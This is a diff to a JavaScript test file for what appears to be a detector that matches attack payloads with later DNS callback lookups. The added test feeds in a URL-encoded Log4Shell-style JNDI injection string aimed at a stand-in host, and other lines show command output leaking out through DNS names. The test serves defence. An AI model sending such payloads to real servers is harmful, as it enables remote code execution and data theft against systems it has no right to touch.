@@ -24,6 +24,10 @@ const TOLD = [`${ATTACKER} b81c.c2.example ${SERVER}`];
 test('a name that stood in an attack is looked up: it worked', () => {
   assert.deepEqual(called([LOOKUP, lookup('b81c.c2.example', 2)]), TOLD);
   assert.deepEqual(called([LOOKUP, lookup('B81C.c2.example.', 2)]), TOLD);
+  assert.deepEqual(
+    called([attack('/?x=$%7Bjndi:dns:%2F%2Fb81c.xn--p1ai%7D'), lookup('b81c.xn--p1ai', 2)]),
+    TOLD.map((said) => said.replace('c2.example', 'xn--p1ai')),
+  );
   // What a command put in front of it.
   assert.deepEqual(called([LOOKUP, lookup('www-data.b81c.c2.example', 2)]), TOLD);
 });
